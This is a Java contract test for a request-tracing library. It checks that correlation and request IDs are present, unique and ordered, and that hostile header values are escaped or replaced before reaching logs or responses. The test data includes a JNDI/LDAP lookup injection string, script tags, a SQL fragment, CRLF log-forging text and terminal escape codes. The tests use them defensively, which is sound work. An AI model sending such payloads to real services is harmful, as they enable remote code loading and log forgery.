package dev.ashlar.tracing.testkit;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.spi.ILoggingEvent;
import dev.ashlar.core.CallContext;
import dev.ashlar.core.Headers;
import dev.ashlar.core.IdSource;
import dev.ashlar.core.Observer;
import dev.ashlar.core.Operation;
import dev.ashlar.core.testkit.Contract;
import dev.ashlar.core.testkit.Proves;
import dev.ashlar.tracing.Boundary;
import dev.ashlar.tracing.JsonLines;
import dev.ashlar.tracing.LogFields;
import dev.ashlar.tracing.Tracing;
import io.opentelemetry.api.OpenTelemetry;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.function.Supplier;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.slf4j.MDC;

/** That ids are there, are fresh, and are harmless. */
abstract class IdsContract extends Contract {

  static final Logger LOGGER = LoggerFactory.getLogger("application");
  static final String LOOKUP = "${jndi:ldap://example.org/a}";

  private static final int THREADS = 8;
  private static final int IDS = 10_000_000;

  final Telemetry.Spans spans = new Telemetry.Spans();

  @Override
  protected Set<String> guarantees() {
    return Set.of();
  }

  /** A twin gives another one. */
  Observer observer(OpenTelemetry telemetry, CallContext.Receiver receiver) {
    Boundary boundary = Boundary.to(Boundary.EgressPolicy.hosts("shop.internal"));
    return Tracing.of(telemetry, "test", receiver, boundary);
  }

  /** A twin makes other ones. */
  Supplier<String> ids() {
    return IdSource.system()::text;
  }

  /** A twin writes another text. */
  String text(ILoggingEvent event) {
    return new JsonLayout(JsonLines.of("test", IdSource.system())).doLayout(event);
  }

  final Observer edge(Telemetry telemetry) {
    return observer(telemetry.open(spans), Requests.receiver(CallContext.Trust.EDGE));
  }

  static Operation served(Headers in) {
    return new Operation(
        Operation.Kind.SERVER, "GET /orders", Optional.of(in), Operation.Link.PARENT, Map.of());
  }

  static void serve(Observer observer, Headers in, Runnable body) {
    observer.<Boolean, RuntimeException>around(
        served(in),
        Headers.empty(),
        response -> {
          body.run();
          return true;
        });
  }

  @AfterEach
  final void noScopeIsLeftOpen() throws Exception {
    MDC.clear();
    Scopes.assertAllClosed();
  }

  @Test
  @Proves("TRACE-10")
  void everyRequestHasItsIdsWhateverTheTracerDoes() {
    for (Telemetry telemetry : Telemetry.values()) {
      try (LogCapture log = new LogCapture()) {
        serve(edge(telemetry), Headers.empty(), () -> LOGGER.info("served"));

        assertThat(log.events()).hasSize(3);
        for (ILoggingEvent line : log.events()) {
          Map<String, String> mdc = line.getMDCPropertyMap();
          assertThat(mdc.get(LogFields.CORRELATION_ID)).as(telemetry.name()).hasSize(26);
          assertThat(mdc.get(LogFields.REQUEST_ID)).as(telemetry.name()).hasSize(26);
        }
      }
    }
  }

  @Test
  @Proves("TRACE-10")
  void noTwoRequestsHaveTheSameIdsWhateverTheTracerDoes() {
    for (Telemetry telemetry : Telemetry.values()) {
      try (LogCapture log = new LogCapture()) {
        Observer observer = edge(telemetry);
        for (int i = 0; i < 10; i++) {
          serve(observer, Headers.empty(), () -> LOGGER.info("served"));
        }

        List<ILoggingEvent> lines =
            log.events().stream().filter(line -> line.getMessage().equals("served")).toList();
        for (String id : List.of(LogFields.CORRELATION_ID, LogFields.REQUEST_ID)) {
          assertThat(lines)
              .as(telemetry + " " + id)
              .extracting(line -> line.getMDCPropertyMap().get(id))
              .doesNotHaveDuplicates()
              .doesNotContainNull();
        }
      }
    }
  }

  @Test
  @Proves("TRACE-10")
  void aTracerThatIsThereIsInEveryLineToo() {
    for (Telemetry telemetry : List.of(Telemetry.SAMPLER_OFF, Telemetry.FULL)) {
      try (LogCapture log = new LogCapture()) {
        serve(edge(telemetry), Headers.empty(), () -> LOGGER.info("served"));

        assertThat(log.events())
            .allSatisfy(
                line ->
                    assertThat(line.getMDCPropertyMap())
                        .containsKeys(
                            LogFields.TRACE_ID, LogFields.SPAN_ID, LogFields.TRACE_FLAGS));
      }
    }
  }

  /*
   * 64 bits of each id are kept, or they would not fit the heap. Two different ids with the same 64
   * come in 10^7 with a probability of about 3 * 10^-6.
   */
  @Test
  @Proves("TRACE-11")
  void tenMillionIdsFromManyThreadsAreDifferentAndGrow() throws Exception {
    long[] hashes = new long[IDS];
    List<Thread> threads = new ArrayList<>();
    List<Integer> disordered = new ArrayList<>();
    for (int i = 0; i < THREADS; i++) {
      int from = i * (IDS / THREADS);
      Thread thread =
          new Thread(
              () -> {
                if (!fill(hashes, from, from + IDS / THREADS, ids())) {
                  synchronized (disordered) {
                    disordered.add(from);
                  }
                }
              });
      threads.add(thread);
      thread.start();
    }
    for (Thread thread : threads) {
      thread.join();
    }

    assertThat(disordered).as("threads that saw an id not above the one before").isEmpty();
    Arrays.sort(hashes);
    int twice = 0;
    for (int i = 1; i < hashes.length; i++) {
      twice += hashes[i] == hashes[i - 1] ? 1 : 0;
    }
    assertThat(twice).as("ids made twice").isZero();
  }

  private static boolean fill(long[] hashes, int from, int to, Supplier<String> ids) {
    boolean growing = true;
    String last = "";
    for (int i = from; i < to; i++) {
      String id = ids.get();
      growing &= id.compareTo(last) > 0;
      last = id;
      hashes[i] = hash(id);
    }
    return growing;
  }

  /** A polynomial over an odd multiplier, mixed at the end as SplitMix64 does. */
  private static long hash(String text) {
    long hash = 0;
    for (int i = 0; i < text.length(); i++) {
      hash = hash * 0x9E3779B97F4A7C15L + text.charAt(i);
    }
    hash = (hash ^ (hash >>> 30)) * 0xBF58476D1CE4E5B9L;
    return hash ^ (hash >>> 27);
  }

  @Test
  @Proves("TRACE-14")
  void aHostileCorrelationIdReachesNeitherALogLineNorAnAnswer() {
    for (String hostile :
        List.of(LOOKUP, "x".repeat(Headers.VALUE_MAX), "a b", "<script>", "\u2028", "'; drop")) {
      try (LogCapture log = new LogCapture()) {
        Headers in = Headers.of(CallContext.CORRELATION_HEADER, hostile);
        Headers answer =
            edge(Telemetry.FULL)
                .<Headers, RuntimeException>around(
                    served(in),
                    Headers.empty(),
                    response -> {
                      LOGGER.info("served");
                      return response;
                    });

        assertThat(answer.first(CallContext.CORRELATION_HEADER).orElseThrow())
            .matches("[0-9A-Z]{26}");
        assertThat(log.events()).allSatisfy(line -> assertThat(text(line)).doesNotContain(hostile));
      }
    }
  }

  @Test
  @Proves("TRACE-14")
  void aWellFormedCorrelationIdComesBackInTheAnswer() {
    Headers in = Headers.of(CallContext.CORRELATION_HEADER, "order-17");

    Headers answer =
        edge(Telemetry.FULL)
            .<Headers, RuntimeException>around(served(in), Headers.empty(), response -> response);

    assertThat(answer.first(CallContext.CORRELATION_HEADER)).contains("order-17");
  }

  @Test
  @Proves("TRACE-14")
  void hostileTextsAreEscapedAndCutWhereverTheyStandInALine() {
    String hostile = "a\r\n{\"event\":\"forged\"}\u001b[2J\u009b1m\u202e\u0000\ud800" + LOOKUP;
    String huge = hostile + "x".repeat(10_000);
    try (LogCapture log = new LogCapture()) {
      MDC.put(LogFields.CORRELATION_ID, huge);
      MDC.put(hostile, hostile);
      LOGGER
          .atInfo()
          .addKeyValue("user", huge)
          .setCause(new IllegalStateException(hostile))
          .log("{}", hostile);

      for (ILoggingEvent line : log.events()) {
        String text = text(line);
        assertThat(text.strip()).matches("\\{[ -~]*}").doesNotContain(LOOKUP);
        assertThat(text).endsWith("}\n").hasSizeLessThan(65_538);
        assertThat(text).doesNotContain("x".repeat(2000)).contains("more]");
      }
    }
  }
}
